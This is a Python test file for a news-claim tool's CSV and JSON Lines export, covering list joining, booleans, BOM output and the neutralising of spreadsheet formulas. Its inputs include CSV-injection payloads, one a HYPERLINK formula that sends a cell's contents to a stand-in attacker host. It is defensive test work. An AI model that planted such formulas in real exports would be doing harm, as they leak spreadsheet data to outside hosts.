"""CSV a spreadsheet opens as it is: plain cells for spans, lists joined with "; ", true/false,
a BOM on request, formulas neutralised; JSON Lines stay as stored."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from pydantic import BaseModel
from typer.testing import CliRunner

from corroborator.cli.app import app
from corroborator.config import Settings
from corroborator.errors import ConfigError
from corroborator.export import write_csv, write_jsonl
from corroborator.export.columns import columns_of
from corroborator.ingest import ingest
from corroborator.models import ClaimGroupRelation, ConflictKind, RelationKind
from corroborator.models.records import (
    EXPORTED_KINDS,
    ClaimGroupMemberRecord,
    ClaimGroupRecord,
    ClaimRecord,
    QuoteRecord,
    SpanRecord,
)
from corroborator.store import Store

FORMULAS = {
    "=1+1": "'=1+1",
    '=HYPERLINK("http://evil.example","click")': '\'=HYPERLINK("http://evil.example","click")',
    "+31 20 555 0100": "'+31 20 555 0100",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}
HARMLESS = ["Harbour wall to be rebuilt", "a=b", "x-1", "", " =1 (after a space)", "'quoted"]


class Member(BaseModel):
    name: str
    score: float


class Row(BaseModel):
    title: str
    count: int
    members: list[Member]


def test_text_cells_starting_like_formulas_get_an_apostrophe_and_no_other_cell_changes() -> None:
    values = list(FORMULAS) + HARMLESS
    records = [Row(title=value, count=-3, members=[Member(name=value, score=-1.5)]) for value in values]
    out = io.StringIO()

    write_csv(records, out)

    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [row["group_title"] for row in rows] == [FORMULAS.get(value, value) for value in values]
    assert [row["name"] for row in rows] == [FORMULAS.get(value, value) for value in values]
    assert {(row["group_count"], row["score"]) for row in rows} == {("-3", "-1.5")}  # numbers are not text


def test_jsonl_keeps_every_value_as_stored() -> None:
    records = [Row(title=value, count=-3, members=[Member(name=value, score=-1.5)]) for value in FORMULAS]
    out = io.StringIO()

    write_jsonl(records, out)

    assert [json.loads(line)["title"] for line in out.getvalue().splitlines()] == list(FORMULAS)


def test_an_article_titled_with_a_formula_exports_neutralised_to_csv_only(
    tmp_path: Path, store: Store, settings: Settings
) -> None:
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Harbour wall")'
    dump = tmp_path / "dump.jsonl"
    dump.write_text(
        json.dumps(
            {
                "id": "-17",
                "title": title,
                "author": "@harbourdesk",
                "text": "The harbour wall will be rebuilt before winter, the port authority said.",
            }
        )
        + "\n",
        encoding="utf-8",
    )
    assert ingest([str(dump)], store, settings.ingest).new == 1
    db = store.url.removeprefix("sqlite:///")
    runner = CliRunner()

    as_csv = runner.invoke(app, ["export", "articles", "--format", "csv", "--db", db])
    as_jsonl = runner.invoke(app, ["export", "articles", "--db", db])

    assert as_csv.exit_code == 0, as_csv.output
    [row] = list(csv.DictReader(io.StringIO(as_csv.stdout, newline="")))
    assert (row["title"], row["author"], row["external_id"]) == ("'" + title, "'@harbourdesk", "'-17")
    [record] = [json.loads(line) for line in as_jsonl.stdout.splitlines()]
    assert (record["title"], record["author"], record["external_id"]) == (title, "@harbourdesk", "-17")


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _claim_group(members: list[ClaimGroupMemberRecord]) -> ClaimGroupRecord:
    return ClaimGroupRecord(
        id="cg-ferry",
        story_id="st-ferry",
        label="The ferry to Vellmar will stop in March",
        verdict="disputed",
        reasons=["two independent origins", "-3 days apart"],
        n_articles=2,
        n_copy_groups=2,
        n_origins=2,
        n_claimants=2,
        origins=["harbour office", "ferry company"],
        parties=[],
        relations=[
            ClaimGroupRelation(
                source="cg-ferry",
                target="cg-winter",
                kind=RelationKind.CONFLICTS,
                reason="dates differ",
                conflict=ConflictKind.NUMERIC,
            ),
            ClaimGroupRelation(
                source="cg-ferry", target="cg-route", kind=RelationKind.SAME, reason="same route"
            ),
        ],
        members=members,
    )


def _member(claim_id: str, text: str, start: int, party: str | None) -> ClaimGroupMemberRecord:
    return ClaimGroupMemberRecord(
        claim_id=claim_id,
        article_id="a-" + claim_id,
        external_id=None,
        url=f"https://news.example/{claim_id}",
        outlet="news.example",
        span=SpanRecord(start=start, end=start + len(text), text=text),
        status="attributed",
        claimant="Mira Sølvberg",
        origin="harbour office",
        party=party,
    )


def test_claim_groups_read_back_as_plain_cells_one_member_a_row() -> None:
    first = "«Паром остановят в марте», сказал капитан"
    group = _claim_group(
        [_member("c1", first, 12, "vellmar-state"), _member("c2", "@ferry: it stops", 0, None)]
    )
    out = io.StringIO()

    assert write_csv([group], out) == 1

    rows = _read(out.getvalue())
    assert len(rows) == 2
    one, two = rows
    assert (one["span_text"], one["span_start"], one["span_end"]) == (first, "12", str(12 + len(first)))
    assert (one["claimant"], one["status"], one["party"], two["party"]) == (
        "Mira Sølvberg",
        "attributed",
        "vellmar-state",
        "",
    )
    assert two["span_text"] == "'@ferry: it stops"
    assert one["group_verdict"] == two["group_verdict"] == "disputed"
    assert one["group_origins"] == "harbour office; ferry company"
    assert (
        one["group_reasons"] == "two independent origins; -3 days apart"
    )  # joined text starts with a letter
    assert one["group_parties"] == ""
    assert one["group_relations_target"] == "cg-winter; cg-route"
    assert one["group_relations_kind"] == "conflicts; same"
    assert one["group_relations_conflict"] == "numeric; "  # the second relation has none: places line up
    assert not any(cell.startswith(("[", "{")) for row in rows for cell in row.values())


def test_a_group_without_members_keeps_its_row() -> None:
    out = io.StringIO()

    write_csv([_claim_group([])], out)

    [row] = _read(out.getvalue())
    assert (row["group_id"], row["claim_id"], row["span_text"]) == ("cg-ferry", "", "")


def test_booleans_are_true_and_false_and_a_missing_span_leaves_empty_cells() -> None:
    def quote(floating: bool, speaker: SpanRecord | None) -> QuoteRecord:
        return QuoteRecord(
            id=f"q-{floating}", article_id="a1", external_id="7", url=None, outlet="news.example",
            quote=SpanRecord(start=40, end=61, text="“We sail at dawn,” she"),
            pieces=[
                SpanRecord(start=40, end=58, text="“We sail at dawn,”"),
                SpanRecord(start=70, end=75, text="- yes"),
            ],
            kind="direct", speaker=speaker, speaker_name="Ines Aalto" if speaker else "",
            speaker_entity_id=None, speaker_reason=None if speaker else "no speaker named",
            verb=None, floating=floating, attribution_id=None,
        )  # fmt: skip

    out = io.StringIO()
    write_csv([quote(True, None), quote(False, SpanRecord(start=0, end=10, text="Ines Aalto"))], out)

    first, second = _read(out.getvalue())
    assert (first["floating"], second["floating"]) == ("true", "false")
    assert (first["speaker_text"], first["speaker_start"], first["speaker_reason"]) == (
        "",
        "",
        "no speaker named",
    )
    assert (second["speaker_text"], second["speaker_start"], second["speaker_end"]) == (
        "Ines Aalto",
        "0",
        "10",
    )
    assert (first["verb_text"], first["verb_start"]) == ("", "")
    assert (first["pieces_start"], first["pieces_end"]) == ("40; 70", "58; 75")
    assert first["pieces_text"] == "“We sail at dawn,”; - yes"


def test_every_exported_kind_has_distinct_plain_column_names() -> None:
    for kind, model in EXPORTED_KINDS.items():
        names = [column.name for column in columns_of(model)]
        assert len(names) == len(set(names)), kind
    names = [column.name for column in columns_of(ClaimGroupRecord)]
    assert {"group_verdict", "span_text", "span_start", "span_end", "claimant", "party"} <= set(names)
    assert {"speaker_text", "speaker_name", "quote_text", "verb_text"} <= {
        c.name for c in columns_of(QuoteRecord)
    }


def test_an_empty_export_still_has_its_header_row() -> None:
    out = io.StringIO()

    assert write_csv([], out, model=ClaimRecord) == 0

    assert next(csv.reader(io.StringIO(out.getvalue())))[:6] == [
        "id", "article_id", "external_id", "url", "outlet", "span_start"
    ]  # fmt: skip


def test_bom_is_written_on_request_and_excel_text_survives(
    tmp_path: Path, store: Store, settings: Settings
) -> None:
    text = "«Паром не придёт», — сказал капитан. The harbour’s wall will be rebuilt."
    dump = tmp_path / "dump.jsonl"
    dump.write_text(json.dumps({"id": "k1", "title": "Паром", "text": text}) + "\n", encoding="utf-8")
    assert ingest([str(dump)], store, settings.ingest).new == 1
    db = store.url.removeprefix("sqlite:///")
    runner = CliRunner()
    with_bom, without = tmp_path / "with.csv", tmp_path / "without.csv"

    marked = runner.invoke(app, ["export", "articles", "-f", "csv", "--bom", "-o", str(with_bom), "--db", db])
    plain_run = runner.invoke(app, ["export", "articles", "-f", "csv", "-o", str(without), "--db", db])
    refused = runner.invoke(app, ["export", "articles", "--bom", "--db", db])

    assert marked.exit_code == 0, marked.output
    assert plain_run.exit_code == 0, plain_run.output
    assert with_bom.read_bytes().startswith(b"\xef\xbb\xbfid,")
    assert without.read_bytes().startswith(b"id,")
    [row] = list(csv.DictReader(with_bom.open(encoding="utf-8-sig", newline="")))
    assert (row["text"], row["title"], row["external_id"]) == (text, "Паром", "k1")
    assert isinstance(refused.exception, ConfigError)  # exit code 2 under `corroborator`
    assert "--bom applies to --format csv only" in str(refused.exception)
    assert without.read_bytes().startswith(b"id,")  # a refused export writes nothing
